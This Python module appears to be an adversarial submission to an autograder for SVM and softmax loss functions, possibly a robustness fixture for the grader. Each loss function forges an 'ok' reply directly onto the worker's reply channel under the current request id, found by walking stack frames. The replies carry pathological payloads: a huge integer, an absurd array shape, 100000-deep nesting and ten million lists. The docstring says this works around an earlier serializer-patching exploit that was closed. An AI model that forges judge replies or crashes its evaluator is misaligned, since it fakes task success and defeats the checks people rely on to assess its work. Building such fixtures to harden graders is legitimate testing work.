"""Writes replies the encoder never makes straight onto the worker's reply channel, under the
id of the request in progress, then waits to be killed: a 4000-digit integer, an empty array of astronomical
shape, nesting 100000 deep, ten million empty lists. (Patching the worker's serializer no longer
works: the worker restores its own modules after every call.)"""
import os
import struct
import sys
import time

import numpy as np  # noqa: F401

from .honest import *  # noqa: F401,F403


def _request_id():
    frame = sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


def _forge(raw_value):
    body = b'{"ok":true,"id":%d,"value":%s}' % (_request_id(), raw_value)
    data = memoryview(struct.pack(">Q", len(body)) + body)
    while data:
        data = data[os.write(int(sys.argv[2]), data):]
    time.sleep(60)  # the judge reads the forged reply and kills the worker


def svm_loss_naive(W, X, y, reg):
    _forge(b"1" * 4000)


def svm_loss_vectorized(W, X, y, reg):
    huge = 2**62
    _forge(b'{"$tuple":[1.0,{"$array":"","dtype":"<f8","shape":[0,%d,%d],'
           b'"scalar":false}]}' % (huge, huge))


def softmax_loss_naive(W, X, y, reg):
    _forge(b"[" * 100_000 + b"]" * 100_000)


def softmax_loss_vectorized(W, X, y, reg):
    _forge(b"[" + b"[]," * 10_000_000 + b"[]]")
